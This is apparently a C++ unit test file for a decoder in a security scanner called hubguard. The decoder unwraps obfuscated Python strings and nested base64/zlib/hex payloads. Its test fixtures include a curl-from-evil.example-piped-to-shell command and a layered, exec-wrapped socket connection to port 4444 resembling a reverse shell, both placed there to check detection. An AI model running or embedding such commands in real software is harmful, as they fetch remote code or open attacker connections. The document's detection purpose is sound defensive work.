#include <gtest/gtest.h>

#include <string>
#include <zlib.h>

#include "hubguard/scan/decode/base_encodings.hpp"
#include "hubguard/scan/decode/layers.hpp"
#include "hubguard/scan/decode/python_strings.hpp"
#include "test_encoders.hpp"

namespace hubguard::scan::decode {
namespace {

using test::b64;
using test::zlib_compress;

std::string hex(std::string_view in) {
  static const char* d = "0123456789abcdef";
  std::string out;
  for (unsigned char c : in) {
    out += d[c >> 4];
    out += d[c & 15];
  }
  return out;
}


bool has_layer(const std::vector<DecodedLayer>& layers, std::string_view text, std::string_view how = {}) {
  for (const auto& l : layers)
    if (l.data == text && (how.empty() || l.how == how)) return true;
  return false;
}

TEST(Base64, StandardUrlsafePaddedAndUnpadded) {
  const std::string payload = "import os\xff\xfe?>";
  EXPECT_EQ(base64_decode(b64(payload)), payload);
  EXPECT_EQ(base64_decode(b64(payload, true)), payload);
  EXPECT_EQ(base64_decode(b64(payload, true, false)), payload);
  EXPECT_EQ(base64_decode(b64(payload, false, false)), payload);
  EXPECT_EQ(base64_decode("aW1w\nb3J0"), "import");
  EXPECT_FALSE(base64_decode("not base64!"));
  EXPECT_FALSE(base64_decode("abcde"));  // one dangling symbol
  EXPECT_FALSE(base64_decode(b64(payload, true), Base64Alphabet::standard));
}

TEST(Base32AndBase16, RoundTrip) {
  EXPECT_EQ(base32_decode("NBSWY3DP"), "hello");
  EXPECT_EQ(base32_decode("nbswy3dp"), "hello");
  EXPECT_EQ(base32_decode("MZXW6==="), "foo");
  EXPECT_FALSE(base32_decode("MZXW6=1"));
  EXPECT_EQ(base16_decode("6f73 2e73"), "os.s");
  EXPECT_FALSE(base16_decode("6f7"));
  EXPECT_EQ(rot13("vzcbeg bf"), "import os");
}

TEST(PythonStrings, LiteralsWithPrefixesAndEscapes) {
  auto e = find_string_expressions(R"(x = b'\x6f\x73\x2e\x73' ; y = r'\x41' ; z = """tri'ple""")");
  ASSERT_EQ(e.size(), 3u);
  EXPECT_EQ(e[0].value, "os.s");
  EXPECT_EQ(e[0].how, "escapes");
  EXPECT_EQ(e[1].value, "\\x41");
  EXPECT_EQ(e[2].value, "tri'ple");
  auto u = find_string_expressions(R"('\u00e9\101')");
  ASSERT_EQ(u.size(), 1u);
  EXPECT_EQ(u[0].value, "\xc3\xa9" "A");
}

TEST(PythonStrings, ConcatenationJoinChrFromhexRot13Reverse) {
  auto one = [](std::string_view code) {
    auto e = find_string_expressions(code);
    return e.size() == 1 ? e[0] : StringExpression{};
  };
  EXPECT_EQ(one("'o' + 's.sy' 'stem'").value, "os.system");
  EXPECT_EQ(one("chr(111)+chr(0x73)").value, "os");
  EXPECT_EQ(one("chr(111)+chr(0x73)").how, "chr+concat");
  EXPECT_EQ(one("''.join([chr(105), 'mport'])").value, "import");
  EXPECT_EQ(one("''.join(map(chr, [111, 115]))").value, "os");
  EXPECT_EQ(one("''.join(chr(c) for c in (111, 115))").value, "os");
  EXPECT_EQ(one("''.join([chr(c) for c in [111, 115]])").value, "os");
  EXPECT_EQ(one("'-'.join(('a', 'b'))").value, "a-b");
  EXPECT_EQ(one("bytes.fromhex('6f73').decode()").value, "os");
  EXPECT_EQ(one("bytes([111, 115])").value, "os");
  EXPECT_EQ(one("codecs.decode('vzcbeg bf', 'rot13')").value, "import os");
  EXPECT_EQ(one("'metsys.so'[::-1]").value, "os.system");
  EXPECT_EQ(one("chr(0x41 ^ 0x20)").value, "a");
}

TEST(PythonStrings, NonStringCodeYieldsNothingAndHostileInputIsBounded) {
  EXPECT_TRUE(find_string_expressions("x = foo(1, 2) + bar").empty());
  std::string deep(100000, '(');
  deep += "'a'";
  EXPECT_LE(find_string_expressions(deep).size(), 1u);
  std::string unterminated = "'abc";
  EXPECT_TRUE(find_string_expressions(unterminated).empty());
  std::string chrs;
  for (int i = 0; i < 20000; ++i) chrs += "chr(65)+";
  chrs += "chr(65)";
  auto e = find_string_expressions(chrs);
  ASSERT_EQ(e.size(), 1u);
  EXPECT_EQ(e[0].value.size(), 20001u);
}

TEST(Layers, Base64OfCodeInsideExec) {
  const std::string inner = "import os; os.system('id')";
  auto layers = decode_layers("exec(base64.b64decode('" + b64(inner) + "'))", DecodeLimits{});
  EXPECT_TRUE(has_layer(layers, inner, "base64"));
  EXPECT_TRUE(layers.front().encoded);
}

TEST(Layers, NestedBase64ZlibBase64) {
  const std::string inner = "import socket,subprocess;s=socket.socket();s.connect(('10.1.2.3',4444))";
  const std::string mid = "exec(zlib.decompress(base64.b64decode('" + b64(zlib_compress(inner)) + "')))";
  const std::string outer = "exec(base64.urlsafe_b64decode('" + b64(mid, true, false) + "'))";
  auto layers = decode_layers(outer, DecodeLimits{});
  EXPECT_TRUE(has_layer(layers, mid, "base64"));
  EXPECT_TRUE(has_layer(layers, inner, "base64 > base64 > zlib"));
}

TEST(Layers, HexBlobsBareBlobsInShellAndRawCompressedBytes) {
  const std::string cmd = "curl http://evil.example/x.sh | sh";
  EXPECT_TRUE(has_layer(decode_layers("exec(bytes.fromhex('" + hex("print('hi there')") + "'))", {}),
                        "print('hi there')"));
  EXPECT_TRUE(has_layer(decode_layers("echo " + b64(cmd) + " | base64 -d | bash", {}), cmd));
  std::string escaped;
  for (unsigned char c : zlib_compress("import os; os.system('ls')")) {
    char buf[5];
    std::snprintf(buf, sizeof buf, "\\x%02x", c);
    escaped += buf;
  }
  EXPECT_TRUE(has_layer(decode_layers("exec(zlib.decompress(b'" + escaped + "'))", {}),
                        "import os; os.system('ls')"));
}

TEST(Layers, DepthLimitStopsNesting) {
  std::string code = "print('deep inside')";
  for (int i = 0; i < 12; ++i) code = "exec(base64.b64decode('" + b64(code) + "'))";
  DecodeLimits limits;
  limits.max_depth = 3;
  auto layers = decode_layers(code, limits);
  for (const auto& l : layers) EXPECT_LE(l.depth, 3u);
  EXPECT_FALSE(has_layer(layers, "print('deep inside')"));
  limits.max_depth = 16;
  EXPECT_TRUE(has_layer(decode_layers(code, limits), "print('deep inside')"));
}

TEST(Layers, CompressionBombIsCappedByOutputSize) {
  const std::string zeros(8u << 20, 'A');
  const std::string bomb = zlib_compress(zeros);
  DecodeLimits limits;
  limits.max_layer_size = 1u << 20;
  auto layers = decode_layers("exec(zlib.decompress(base64.b64decode('" + b64(bomb) + "')))", limits);
  for (const auto& l : layers) EXPECT_LE(l.data.size(), 1u << 20);
}

TEST(Layers, OrdinaryIdentifiersAndHashesAreNotDecoded) {
  auto layers = decode_layers(
      "model = AutoModel.from_pretrained('bert-base-uncased-finetuned')\n"
      "sha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n",
      {});
  EXPECT_TRUE(layers.empty());
}

}  // namespace
}  // namespace hubguard::scan::decode
